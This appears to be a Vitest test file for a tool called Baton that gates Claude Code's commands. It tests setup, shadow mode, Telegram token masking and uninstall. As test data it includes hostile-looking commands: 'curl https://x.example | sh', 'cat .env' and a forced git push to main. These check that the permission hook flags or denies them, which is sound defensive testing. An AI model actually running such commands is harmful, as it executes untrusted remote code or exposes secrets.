import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { claudeRows, SESSION } from '../handoff/sessions.ts'
import { startTerminal } from '../world/agents/tmux.ts'
import { batonIn } from '../world/baton.ts'
import { claudePayload } from '../world/hook-payload.ts'
import { gitRepo, scratch } from '../world/scratch.ts'
import { CHAT, startTelegram } from '../world/telegram.ts'

const CLI = join(import.meta.dirname, '../../dist/cli.js')

const QUESTIONS = [/Which\?/, /How much\?/, /shadow mode/, /desktop when/, /Telegram/, /slash commands/]

/** What Claude Code 2.1 writes and leaves when a plugin comes and goes: a copy of it, its lists, two keys in the settings. */
const CLAUDE_PLUGIN = `
const { mkdirSync, readFileSync, writeFileSync } = require('node:fs')
const folder = process.env.HOME + '/.claude/'
const isGone = /uninstall|remove/.test(process.argv.slice(2, 5).join(' '))
const settings = JSON.parse(readFileSync(folder + 'settings.json', 'utf8'))
settings.enabledPlugins = isGone ? {} : { 'baton@batonpass': true }
settings.extraKnownMarketplaces = isGone ? {} : { batonpass: {} }
writeFileSync(folder + 'settings.json', JSON.stringify(settings, null, 2))
mkdirSync(folder + 'plugins/cache/batonpass/baton/0.1.0', { recursive: true })
mkdirSync(folder + 'plugins/marketplaces', { recursive: true })
writeFileSync(folder + 'plugins/installed_plugins.json', JSON.stringify({ version: 2, plugins: isGone ? {} : { 'baton@batonpass': [] } }))
writeFileSync(folder + 'plugins/known_marketplaces.json', JSON.stringify(isGone ? {} : { batonpass: {} }))
`

async function world() {
  const here = scratch()
  const calls = join(here.path, 'claude-calls')
  here.write(
    'bin/claude',
    `#!/bin/sh\n[ "$1" = mcp -o "$1" = plugin ] && echo "$*" >> ${calls}\n[ "$1" = plugin ] && exec ${process.execPath} ${join(here.path, 'plugin.cjs')} "$@"\necho 2.1.0\n`,
    0o755,
  )
  here.write('plugin.cjs', CLAUDE_PLUGIN)
  const project = await gitRepo(join(here.path, 'project'))
  const home = join(here.path, 'home')
  const baton = batonIn(home, project.path)
  const env = { PATH: `${here.path}/bin:${process.env.PATH}` }
  return {
    home,
    baton,
    project,
    env,
    calls,
    settings: join(home, '.claude/settings.json'),
    config: join(home, '.baton.yaml'),
    run: (...args: string[]) => baton.run(args, { env }),
    async [Symbol.asyncDispose]() {
      await baton[Symbol.asyncDispose]()
      await project[Symbol.asyncDispose]()
      here.remove()
    },
  }
}

describe('the guided set-up', () => {
  test('asks, shows everything before it writes, and keeps what stood in the file', {
    timeout: 120_000,
  }, async () => {
    await using here = await world()
    writeFileSync(here.config, '# mine\ndaemon:\n  port: 0 # any\n', { mode: 0o600 })
    await using terminal = await startTerminal({
      command: [process.execPath, CLI, 'init'],
      cwd: here.project.path,
      env: { ...here.env, HOME: here.home, LC_ALL: 'C.UTF-8', TERM: 'xterm' },
    })
    await terminal.waitForScreen(/Which\?/)
    expect(await terminal.history()).toContain('Found: Claude Code')
    await terminal.type('caut')
    await terminal.press('Enter')
    await terminal.waitForScreen(/How much\? \(respect, ask, defer\) \[respect\]/)
    await terminal.press('Enter')
    await terminal.waitForScreen(/shadow mode/)
    await terminal.press('Enter')
    await terminal.waitForScreen(/desktop when/)
    await terminal.press('Enter')
    await terminal.waitForScreen(/Telegram/)
    await terminal.press('Enter')
    await terminal.waitForScreen(/slash commands/)
    await terminal.type('n')
    await terminal.press('Enter')
    await terminal.waitForScreen(/MCP server/)
    await terminal.type('y')
    await terminal.press('Enter')
    await terminal.waitForScreen(/Write it\? \(yes, no, diff\)/)
    // A plan that can be read at a glance; everything else on wish.
    const plan = (await terminal.history()).split('This would change:')[1] ?? ''
    expect(plan).toMatch(/~\/\.claude\/settings\.json\n +hooks of Claude Code: a new file, \d+ lines more/)
    expect(plan).toMatch(/~\/\.baton\.yaml\n +your settings \(permission\.preset\): 2 lines more/)
    expect(plan).not.toMatch(/^[+@]/m)
    expect(plan.trim().split('\n').length).toBeLessThan(16)
    await terminal.type('d')
    await terminal.press('Enter')
    await terminal.waitForScreen(/\+\s*preset: cautious.*Write it\?/s)
    expect(await terminal.history()).toMatch(/\+.*baton-hook/)
    expect((await terminal.history()).replaceAll('\n', '')).toMatch(
      /Would run: claude mcp add --scope user baton -- .*\/bin\/baton mcp/,
    )
    expect(existsSync(here.calls)).toBe(false)
    expect(existsSync(here.settings)).toBe(false)
    await terminal.press('Enter')
    await terminal.waitForScreen(/baton dashboard/)
    expect(readFileSync(here.settings, 'utf8')).toContain('baton-hook')
    expect(readFileSync(here.config, 'utf8')).toBe(
      '# mine\ndaemon:\n  port: 0 # any\npermission:\n  preset: cautious\n',
    )
    expect(statSync(here.config).mode & 0o777).toBe(0o600)
    const own = join(here.baton.stateDir, 'bin/baton')
    expect(readFileSync(here.calls, 'utf8')).toBe(`mcp add --scope user baton -- ${own} mcp\n`)
    expect((await here.run('init', '--yes', '--mcp')).code).toBe(0)
    expect((await here.run('uninstall', '--yes')).stdout).toContain("Removed Baton's tools from Claude Code")
    expect(readFileSync(here.calls, 'utf8')).toBe(
      `mcp add --scope user baton -- ${own} mcp\nmcp remove --scope user baton\n`,
    )
  })

  test('sets up Telegram, hides the token in what it shows, and sends a test message', {
    timeout: 120_000,
  }, async () => {
    await using here = await world()
    await using telegram = await startTelegram()
    writeFileSync(here.config, `daemon:\n  port: 0\ntelegram:\n  api_root: ${telegram.url}\n`, {
      mode: 0o600,
    })
    const list = (rules: object) => JSON.stringify({ permissions: rules })
    for (const [file, text] of [
      [here.settings, list({ deny: ['Bash(git push:*)'] })],
      [join(here.project.path, '.claude/settings.json'), list({ allow: ['Bash(evil:*)'] })],
    ] as const) {
      mkdirSync(dirname(file), { recursive: true })
      writeFileSync(file, text)
    }
    await using terminal = await startTerminal({
      command: [process.execPath, CLI, 'init'],
      cwd: here.project.path,
      env: { ...here.env, HOME: here.home, LC_ALL: 'C.UTF-8', TERM: 'xterm' },
    })
    const answer = async (question: RegExp, text: string) => {
      await terminal.waitForScreen(question)
      if (text) await terminal.type(text)
      await terminal.press('Enter')
    }
    await answer(/Which\?/, '')
    await answer(/How much\?/, '')
    // The lists of their own settings are offered; the list of a project is not.
    await answer(/deny +Bash\(git push:\*\).*Add them to your settings\? \[Y\/n\]/s, '')
    expect(await terminal.history()).not.toContain('evil')
    await answer(/shadow mode/, '')
    await answer(/desktop when/, '')
    await answer(/Telegram when you are away/, 'y')
    await answer(/Token:/, telegram.token)
    await answer(/Your chat id/, String(CHAT))
    await answer(/slash commands/, 'n')
    await answer(/MCP server/, '')
    await answer(/Write it\?/, 'd')
    await terminal.waitForScreen(/\+ +token: ••••/)
    expect((await terminal.history()).split('This would change')[1]).not.toContain(telegram.token)
    await terminal.press('Enter')
    await answer(/Send a test message\?/, '')
    await terminal.waitForScreen(/Sent by telegram/)
    expect(telegram.messages()).toHaveLength(1)
    expect(readFileSync(here.config, 'utf8')).toContain(`token: ${telegram.token}`)
    expect(readFileSync(here.config, 'utf8')).toContain(
      '  deny:\n    - { pattern: ^git push( |$) } # from Bash(git push:*) (~/.claude/settings.json)\n',
    )
    expect(statSync(here.config).mode & 0o777).toBe(0o600)
  })

  test('gives Claude Code the slash commands by its own command, and takes just that back', {
    timeout: 120_000,
  }, async () => {
    await using here = await world()
    expect((await here.run('init', '--yes')).stdout).toContain('baton init --plugin')
    expect((await here.run('init', '--dry-run', '--plugin')).stdout).toMatch(
      /Would run: claude plugin marketplace add .*\/dist\/plugin\nWould run: claude plugin install baton@batonpass\n/,
    )
    expect(existsSync(here.calls)).toBe(false)
    // The plugin brings the tools along: no second server of the same name.
    expect((await here.run('init', '--yes', '--plugin', '--mcp')).stdout).toContain('/baton:issue-to-impl')
    expect(readFileSync(here.calls, 'utf8')).toMatch(
      /^plugin marketplace add .*\/dist\/plugin\nplugin install baton@batonpass\n$/,
    )
    const gone = (await here.run('uninstall', '--yes')).stdout
    expect(gone).toContain("Baton's plugin in Claude Code, with its slash commands")
    expect(gone).toContain("Removed Baton's plugin")
    expect(readFileSync(here.calls, 'utf8')).toMatch(
      /plugin uninstall baton@batonpass\nplugin marketplace remove batonpass\n$/,
    )
    // Claude Code leaves empty keys and copies behind; before, there was nothing.
    expect(existsSync(join(here.home, '.claude'))).toBe(false)
  })

  test('says how many questions to expect, counted from the person’s own sessions, and takes the answer', {
    timeout: 300_000,
  }, async () => {
    await using here = await world()
    const past = join(here.home, '.claude/projects/-past')
    mkdirSync(past, { recursive: true })
    const mode = { type: 'permission-mode', permissionMode: 'auto', sessionId: SESSION }
    const run = (command: string) => ({ run: { command } })
    const steps = [
      run('git push origin topic'),
      run('git push origin topic'),
      run('cat .env'),
      run('git status'),
    ]
    const rows = [JSON.stringify(mode), ...claudeRows(steps, { cwd: here.project.path })]
    writeFileSync(join(past, `${SESSION}.jsonl`), `${rows.join('\n')}\n`)
    await using terminal = await startTerminal({
      command: [process.execPath, CLI, 'init'],
      cwd: here.project.path,
      env: { ...here.env, HOME: here.home, LC_ALL: 'C.UTF-8', TERM: 'xterm' },
    })
    await terminal.waitForScreen(/Which\?/)
    await terminal.press('Enter')
    const screen = await terminal.waitForScreen(/How much\?/)
    expect(screen).toContain('Ask me about (counted in your last session):')
    expect(screen).toMatch(/respect +what my agent's own permission mode would ask about: 1 question\n/)
    expect(screen).toMatch(/ask +everything that Baton cannot decide: 3 questions\n/)
    expect(screen).toMatch(/defer +nothing but secrets and my rules; .*: 1 question\n/)
    await terminal.type('ask')
    await terminal.press('Enter')
    for (const question of [...QUESTIONS.slice(2), /MCP server/]) {
      await terminal.waitForScreen(question)
      await terminal.type('n')
      await terminal.press('Enter')
    }
    await terminal.waitForScreen(/Write it\?/)
    await terminal.press('Enter')
    await terminal.waitForScreen(/baton dashboard/, { timeout: 120_000 })
    expect(readFileSync(here.config, 'utf8')).toContain('permission:\n  undecided: ask\n')

    expect((await here.run('init', '--yes')).stdout).toContain(
      'In your last session Baton would have asked 3 times. (permission.undecided: ask)\n',
    )
    expect(JSON.parse((await here.run('init', '--json')).stdout).questions).toEqual({
      sessions: 1,
      calls: 4,
      respect: 1,
      ask: 3,
      defer: 1,
    })
    writeFileSync(here.config, 'daemon:\n  port: 0\n')
    expect((await here.run('init', '--yes')).stdout).toContain(
      'In your last session Baton would have asked once instead of 3. (permission.undecided: respect)\n',
    )
  })

  test('offers to remove the hooks of agentize, and keeps everything else of the file', {
    timeout: 240_000,
  }, async () => {
    await using here = await world()
    mkdirSync(join(here.home, '.claude'), { recursive: true })
    const own = '{"hooks": [{"type": "command", "command": "my-own-hook"}]}'
    const theirs = '{"hooks": [{"type": "command", "command": "python3 /opt/agentize/hooks/stop.py"}]}'
    writeFileSync(here.settings, `{"hooks": {"Stop": [${own}, ${theirs}]}, "model": "opus"}`)
    await using terminal = await startTerminal({
      command: [process.execPath, CLI, 'init'],
      cwd: here.project.path,
      env: { ...here.env, HOME: here.home, LC_ALL: 'C.UTF-8', TERM: 'xterm' },
    })
    for (const question of [...QUESTIONS, /Write it\?/]) {
      await terminal.waitForScreen(question)
      await terminal.press('Enter')
    }
    await terminal.waitForScreen(/Remove the hooks of agentize from/)
    expect(readFileSync(here.settings, 'utf8')).toContain('/opt/agentize/')
    await terminal.press('Enter')
    await terminal.waitForScreen(/Removed the hooks of agentize from/)
    const after = readFileSync(here.settings, 'utf8')
    expect(after).not.toContain('agentize')
    expect(after).toContain('my-own-hook')
    expect(after).toContain('baton-hook')
    expect(JSON.parse(after).model).toBe('opus')
  })

  test('a no at the end writes nothing', { timeout: 240_000 }, async () => {
    await using here = await world()
    await using terminal = await startTerminal({
      command: [process.execPath, CLI, 'init'],
      cwd: here.project.path,
      env: { ...here.env, HOME: here.home, LC_ALL: 'C.UTF-8', TERM: 'xterm' },
    })
    const before = readFileSync(here.config, 'utf8')
    for (const question of QUESTIONS) {
      await terminal.waitForScreen(question)
      await terminal.press('Enter')
    }
    await terminal.waitForScreen(/Write it\?/)
    await terminal.type('n')
    await terminal.press('Enter')
    await terminal.waitForScreen(/Nothing was written/)
    expect(existsSync(here.settings)).toBe(false)
    expect(readFileSync(here.config, 'utf8')).toBe(before)
  })

  test('Ctrl-C at a question leaves everything as it was', { timeout: 240_000 }, async () => {
    await using here = await world()
    const before = readFileSync(here.config, 'utf8')
    for (const point of [/Which\?/, /Write it\?/]) {
      await using terminal = await startTerminal({
        command: [process.execPath, CLI, 'init'],
        cwd: here.project.path,
        env: { ...here.env, HOME: here.home, LC_ALL: 'C.UTF-8', TERM: 'xterm' },
      })
      for (const question of QUESTIONS) {
        await terminal.waitForScreen(question)
        if (question.source === point.source) break
        await terminal.press('Enter')
      }
      await terminal.waitForScreen(point)
      await terminal.press('C-c')
      await terminal.waitForExit()
      expect(await terminal.history()).toContain('Cancelled. Nothing changed.')
      expect(existsSync(here.settings)).toBe(false)
      expect(existsSync(here.baton.stateDir)).toBe(false)
      expect(readFileSync(here.config, 'utf8')).toBe(before)
    }
  })

  test('a script is asked nothing, and the file of settings stays as it is', async () => {
    await using here = await world()
    const before = readFileSync(here.config, 'utf8')
    expect((await here.run('init', '--yes')).code).toBe(0)
    expect(readFileSync(here.settings, 'utf8')).toContain('baton-hook')
    expect(readFileSync(here.config, 'utf8')).toBe(before)
  })
})

describe('shadow mode', () => {
  test('answers nothing, and says later what would have been', { timeout: 240_000 }, async () => {
    await using here = await world()
    expect((await here.run('init', '--shadow')).code).toBe(0)
    expect(readFileSync(here.config, 'utf8')).toContain('shadow:\n  enabled: true')
    const hook = (event: string, command: string, more = {}) =>
      here.baton.run(['hook', 'claude-code', event], {
        input: claudePayload(event, here.project.path, command, more),
        env: here.env,
      })
    for (const command of ['ls', 'git push --force origin main', 'curl https://x.example | sh'])
      expect((await hook('PreToolUse', command, { tool_use_id: `t${command.length}` })).stdout.trim()).toBe(
        '{}',
      )
    await hook('UserPromptSubmit', '', { prompt: '/issue-to-impl 42' })
    expect((await hook('Stop', '', { stop_hook_active: false })).stdout.trim()).toBe('{}')
    const decided = await here.baton.entries({ kind: 'decision' })
    expect(decided).toEqual([])

    const told = JSON.parse((await here.run('shadow', '--json')).stdout)
    expect(told).toEqual({ tools: { sandbox: 1, deny: 1, ask: 1 }, continued: 1, handedOff: 0 })
    const words = (await here.run('shadow')).stdout
    expect(words).toMatch(/Would have stopped: 1\n\s+git push --force origin main/)
    expect(words).toContain('baton shadow --end')

    expect((await here.run('shadow', '--end')).code).toBe(0)
    await here.baton.must('up', '--restart')
    const answer = await hook('PreToolUse', 'git push --force origin main', { tool_use_id: 'later' })
    expect(answer.stdout).toContain('"permissionDecision":"deny"')
  })

  test('a project cannot switch it on', async () => {
    await using here = await world()
    here.project.write('.baton.yaml', 'shadow:\n  enabled: true\n')
    const shown = await here.baton.run(['config', 'shadow.enabled'], { env: here.env })
    expect(shown.stdout).toBe('false\n')
  })
})

describe('uninstall', () => {
  test('leaves no trace but what people wrote', { timeout: 240_000 }, async () => {
    await using here = await world()
    expect((await here.run('init')).code).toBe(0)
    const call = claudePayload('PreToolUse', here.project.path, 'rm -r README.md')
    await here.baton.run(['hook', 'claude-code', 'PreToolUse'], { input: call, env: here.env })
    const refs = () => here.project.git('for-each-ref', 'refs/baton')
    await here.project.git('update-ref', 'refs/baton/undo/0/tip/1-1-0', 'HEAD')
    mkdirSync(join(here.project.path, '.bmad/handoffs'), { recursive: true })
    here.project.write('.bmad/handoffs/handoff-2026-01-01-10-00.md', 'mine')
    writeFileSync(join(here.project.path, '.git/info/exclude'), '/mine\n/.tmp/\n/.bmad/handoffs/\n')
    const shown = await here.run('uninstall', '--dry-run')
    expect(shown.stdout).toMatch(
      /In addition to the hooks, this would be removed:\n.*journal.*\n +\d+ undo snapshots? of /,
    )
    expect(existsSync(here.baton.stateDir)).toBe(true)
    const gone = await here.run('uninstall', '--yes')
    expect(gone).toMatchObject({ code: 0, stderr: '' })
    expect(gone.stdout).toMatch(/\d undo snapshots? of /)
    expect(gone.stdout).toContain('these documents are yours')
    expect(gone.stdout).toMatch(/Left .*\/\.baton\.yaml: these settings are yours/)
    expect(readFileSync(join(here.project.path, '.git/info/exclude'), 'utf8')).toBe(
      '/mine\n/.bmad/handoffs/\n',
    )
    expect(existsSync(here.baton.stateDir)).toBe(false)
    expect(existsSync(here.settings)).toBe(false)
    expect(await refs()).toBe('')
    expect(existsSync(join(here.project.path, '.bmad/handoffs/handoff-2026-01-01-10-00.md'))).toBe(true)
    expect(existsSync(here.config)).toBe(true)
    expect((await here.run('uninstall')).stdout).toBe('These settings contain no Baton hooks.\n')
  })

  test('a script that did not say --yes loses hooks and daemon, and no data', {
    timeout: 120_000,
  }, async () => {
    await using here = await world()
    expect((await here.run('init')).code).toBe(0)
    const { code, stdout } = await here.run('uninstall')
    expect(code).toBe(0)
    expect(stdout).toMatch(
      /Kept .*, because there is no terminal to ask\. To remove it: baton uninstall --yes/,
    )
    expect(existsSync(here.settings)).toBe(false)
    expect(existsSync(join(here.baton.stateDir, 'baton.db'))).toBe(true)
  })

  test('at a terminal it names what goes and takes no for an answer; what was changed since stays', {
    timeout: 120_000,
  }, async () => {
    await using here = await world()
    expect((await here.run('init')).code).toBe(0)
    const settings = JSON.parse(readFileSync(here.settings, 'utf8'))
    writeFileSync(here.settings, JSON.stringify({ ...settings, model: 'mine' }))
    const open = () =>
      startTerminal({
        command: [process.execPath, CLI, 'uninstall'],
        cwd: here.project.path,
        env: { ...here.env, HOME: here.home, LC_ALL: 'C.UTF-8', TERM: 'xterm' },
      })
    {
      await using terminal = await open()
      await terminal.waitForScreen(/Remove all of this and the hooks\? \[y\/N\]/)
      await terminal.press('Enter')
      await terminal.waitForScreen(/Nothing was removed/)
      expect(readFileSync(here.settings, 'utf8')).toContain('baton-hook')
    }
    await using terminal = await open()
    await terminal.waitForScreen(/Remove all of this/)
    await terminal.type('y')
    await terminal.press('Enter')
    await terminal.waitForScreen(/Removed Baton's state/)
    expect(JSON.parse(readFileSync(here.settings, 'utf8'))).toEqual({ model: 'mine' })
    expect(existsSync(here.baton.stateDir)).toBe(false)
  })

  test('keeps the journal when it is told to, and other things in a folder that a person chose', {
    timeout: 120_000,
  }, async () => {
    await using here = await world()
    expect((await here.run('init')).code).toBe(0)
    expect((await here.run('uninstall', '--keep-data')).code).toBe(0)
    expect(existsSync(join(here.baton.stateDir, 'baton.db'))).toBe(true)
    const own = join(here.home, 'own')
    mkdirSync(own)
    writeFileSync(join(own, 'notes.txt'), 'mine')
    const env = { ...here.env, BATON_HOME: own }
    expect((await here.baton.run(['init'], { env })).code).toBe(0)
    expect((await here.baton.run(['uninstall', '--yes'], { env })).code).toBe(0)
    expect(readFileSync(join(own, 'notes.txt'), 'utf8')).toBe('mine')
    expect(existsSync(join(own, 'baton.db'))).toBe(false)
    expect(existsSync(join(own, 'token'))).toBe(false)
  })
})
